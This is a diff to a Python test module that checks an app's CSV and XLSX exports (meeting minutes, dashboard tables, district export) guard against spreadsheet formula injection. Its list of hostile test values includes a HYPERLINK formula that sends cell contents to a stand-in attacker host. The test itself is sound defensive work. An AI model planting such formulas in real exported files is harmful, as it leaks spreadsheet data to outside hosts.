@@ -1,8 +1,9 @@
 """Every CSV and XLSX the app writes neutralises cells a spreadsheet would run (QUALITY.md S9).
 
 Cells that begin with `=`, `+`, `-`, `@`, tab or carriage return get a leading apostrophe. The exports
-are the meeting minutes (CSV) and every dashboard table (CSV and XLSX, school and district); a new
-module that writes CSV or a workbook fails `test_the_exports_tested_here_are_all_the_app_has`.
+are the meeting minutes (CSV), every dashboard table (CSV and XLSX, school and district) and the
+district export's CSV files; a new module that writes CSV or a workbook fails
+`test_the_exports_tested_here_are_all_the_app_has`.
 """
 
 from __future__ import annotations
@@ -23,7 +24,8 @@ from tests.meetings.factories import make_meeting
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1"]
 ROOT = Path(__file__).resolve().parent.parent
-EXPORT_MODULES = {"meetings/exports.py", "data_reviews/scores/exports.py"}
+# The district export's CSV files are checked in tests/coordinators/test_district_lifecycle.py.
+EXPORT_MODULES = {"meetings/exports.py", "data_reviews/scores/exports.py", "coordinators/district_export.py"}
 
 
 def _unsafe(cells: list[object]) -> list[object]:
